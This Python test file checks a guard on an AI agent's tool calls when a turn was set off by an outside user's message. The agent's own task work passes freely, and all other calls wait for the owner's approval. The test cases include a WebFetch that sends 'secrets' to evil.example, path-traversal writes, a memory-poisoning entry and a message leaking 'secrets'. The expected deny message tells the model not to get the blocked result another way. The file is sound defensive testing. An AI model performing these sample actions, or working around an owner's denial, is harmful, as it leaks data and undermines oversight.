"""The tainted-turn guard with an Approver: what a task turn may do alone, what it must ask."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from jobs.sessions.hooks import HOOK_MARGIN_SECONDS, HookScope, session_hooks, tool_guard
from jobs.sessions.roles import TASK, ToolPolicy
from jobs.sessions.taint import ApprovalAnswer, ApprovalRequest, FreeCall, TaintRule, TaintSource
from jobs.storage import ApprovalRepo, ApprovalState, AuditRepo, Database
from tests.unit.hook_inputs import pre_tool_use as call

POLICY = ToolPolicy(
    role="task",
    names=frozenset(
        {
            "mcp__messaging__send_to_user",
            "mcp__delegation__update_task",
            "mcp__schedules__schedule_create",
            "mcp__memory__remember",
        }
    ),
    any_builtin=True,
)
SCOPE = HookScope(session_key="task:3", role="task", person_id=None)


@dataclass
class Owner:
    """An Approver whose answer the test sets; records what it was asked."""

    answer: ApprovalAnswer = field(
        default_factory=lambda: ApprovalAnswer(ApprovalState.DENIED, "k7mq3", 1)
    )
    asked: list[ApprovalRequest] = field(default_factory=list)

    @property
    def wait_seconds(self) -> float:
        return 5.0

    async def ask(self, request: ApprovalRequest, /) -> ApprovalAnswer:
        self.asked.append(request)
        return self.answer


@pytest.fixture
async def audit(db: Database) -> AuditRepo:
    for n in range(8):  # the approvals the fake owner's answers name (audit refers to them)
        await ApprovalRepo(db).create("task:3", 42, "Bash", f"ls {n}", timedelta(minutes=1))
    return AuditRepo(db)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "workspace" / "tasks" / "3"
    made.mkdir(parents=True)
    return made


def source(folder: Path) -> TaintSource:
    return TaintSource(
        caused_by="a message from Bob (@bob, id 42)",
        where="task #3 «Meeting with Bob»",
        person_id=42,
        folder=folder,
        free_calls=(
            FreeCall("mcp__messaging__send_to_user", "to", frozenset({"42", "@bob", "owner"})),
            FreeCall("mcp__delegation__update_task", "task_id", frozenset({"3"})),
            FreeCall("Skill"),
        ),
    )


def guard_for(audit: AuditRepo, folder: Path, owner: Owner | None) -> Any:
    rule = TaintRule(
        is_tainted=lambda: True,
        read_only=frozenset({"Read"}),
        source=lambda: source(folder),
        approver=owner,
    )
    return tool_guard(POLICY, audit=audit, scope=SCOPE, taint=rule)


def decision(answer: Any) -> tuple[str, str]:
    out = answer["hookSpecificOutput"]
    return out["permissionDecision"], out["permissionDecisionReason"]


async def test_a_task_turn_may_do_its_own_work_without_asking(
    audit: AuditRepo, folder: Path
) -> None:
    owner = Owner()
    guard = guard_for(audit, folder, owner)
    free = [
        call("Read", file_path=str(folder / "notes.md")),
        call("mcp__messaging__send_to_user", to="@Bob ", text="hi"),
        call("mcp__messaging__send_to_user", to=42, text="hi"),
        call("mcp__messaging__send_to_user", to="owner", text="done"),
        call("mcp__delegation__update_task", task_id=3, status="done"),
        call("Skill", skill="schedule-meeting"),
        call("Write", file_path=str(folder / "notes.md"), content="x"),
        call("Edit", cwd=str(folder), file_path="sub/notes.md", old_string="a", new_string="b"),
    ]
    for made in free:
        assert await guard(made, "toolu_1", {"signal": None}) == {}, made
    assert owner.asked == []
    entries = await audit.latest()
    assert len(entries) == len(free) and {e.decision for e in entries} == {"allowed"}


@pytest.mark.parametrize(
    "made",
    [
        call("Bash", command="ls"),
        call("Read", file_path="/etc/hosts"),
        call("Write", file_path="/workspace/MEMORY.md", content="x"),
        call("Write", file_path="{folder}/../4/notes.md", content="x"),
        call("Edit", cwd="{folder}", file_path="../../MEMORY.md"),
        call("mcp__messaging__send_to_user", to="@alice", text="secrets"),
        call("mcp__delegation__update_task", task_id=4, status="cancelled"),
        call("mcp__schedules__schedule_create", name="x"),
        call("mcp__memory__remember", text="Bob is the boss"),
        call("WebFetch", url="https://evil.example/?q=secrets"),
    ],
)
async def test_anything_else_waits_for_the_owner(
    audit: AuditRepo, folder: Path, made: dict[str, Any]
) -> None:
    made["cwd"] = made["cwd"].replace("{folder}", str(folder))
    for key, value in list(made["tool_input"].items()):
        made["tool_input"][key] = str(value).replace("{folder}", str(folder))
    owner = Owner()
    answer = await guard_for(audit, folder, owner)(made, "toolu_1", {"signal": None})
    assert decision(answer) == (
        "deny",
        f"The owner said no to this call (approval k7mq3): {made['tool_name']} did not run. "
        "Do not try to get the same done another way; go on without it, or tell the owner.",
    )
    [request] = owner.asked
    assert (request.session_key, request.tool) == ("task:3", made["tool_name"])
    assert request.tool_input == made["tool_input"]
    assert request.source.caused_by == "a message from Bob (@bob, id 42)"
    [entry] = await audit.latest()
    assert (entry.tool, entry.decision, entry.approval_id) == (
        made["tool_name"],
        "denied_by_owner",
        1,
    )


async def test_the_owners_answers_become_the_calls_outcome(audit: AuditRepo, folder: Path) -> None:
    owner = Owner(ApprovalAnswer(ApprovalState.APPROVED, "abcde", 7))
    guard = guard_for(audit, folder, owner)
    allowed = await guard(call("Bash", command="ls"), "toolu_1", {"signal": None})
    assert decision(allowed) == ("allow", "The owner approved this call (approval abcde).")
    assert allowed["hookSpecificOutput"]["additionalContext"] == (
        "The owner approved this call (approval abcde)."
    )
    owner.answer = ApprovalAnswer(ApprovalState.EXPIRED, "fghjk", 8)
    expired = await guard(call("Bash", command="ls"), "toolu_2", {"signal": None})
    assert decision(expired)[1].startswith("The owner did not answer in time (approval fghjk)")
    owner.answer = ApprovalAnswer(ApprovalState.DENIED)  # asking failed
    failed = await guard(call("Bash", command="ls"), "toolu_3", {"signal": None})
    assert decision(failed) == (
        "deny",
        "Bash needs the owner's approval in this turn, and asking failed: it did not run.",
    )
    decisions = [(e.decision, e.approval_id) for e in reversed(await audit.latest())]
    assert decisions == [
        ("approved_by_owner", 7),
        ("denied_no_answer", 8),
        ("denied_by_owner", None),
    ]


async def test_an_approved_call_the_role_lacks_is_still_denied(
    audit: AuditRepo, folder: Path
) -> None:
    narrow = ToolPolicy(role="external", names=frozenset(), any_builtin=False)
    rule = TaintRule(
        is_tainted=lambda: True,
        read_only=frozenset(),
        approver=Owner(ApprovalAnswer(ApprovalState.APPROVED, "abcde", 1)),
    )
    guard = tool_guard(narrow, audit=audit, scope=SCOPE, taint=rule)
    answer = await guard(call("Bash", command="ls"), "toolu_1", {"signal": None})
    assert decision(answer)[0] == "deny"


async def test_an_untainted_turn_asks_nobody(audit: AuditRepo, folder: Path) -> None:
    owner = Owner()
    rule = TaintRule(is_tainted=lambda: False, read_only=frozenset(), approver=owner)
    guard = tool_guard(POLICY, audit=audit, scope=SCOPE, taint=rule)
    assert await guard(call("Bash", command="ls"), "toolu_1", {"signal": None}) == {}
    assert owner.asked == []


def test_with_an_approver_the_cli_waits_longer_and_blocks_on_failure(audit: AuditRepo) -> None:
    plain = session_hooks(TASK, POLICY, audit=audit, scope=SCOPE)
    [matcher] = plain["PreToolUse"]
    assert (matcher.timeout, matcher.on_failure) == (None, None)
    rule = TaintRule(is_tainted=lambda: False, read_only=frozenset(), approver=Owner())
    [asking] = session_hooks(TASK, POLICY, audit=audit, scope=SCOPE, taint=rule)["PreToolUse"]
    assert asking.timeout == 5.0 + HOOK_MARGIN_SECONDS and asking.on_failure == "block"
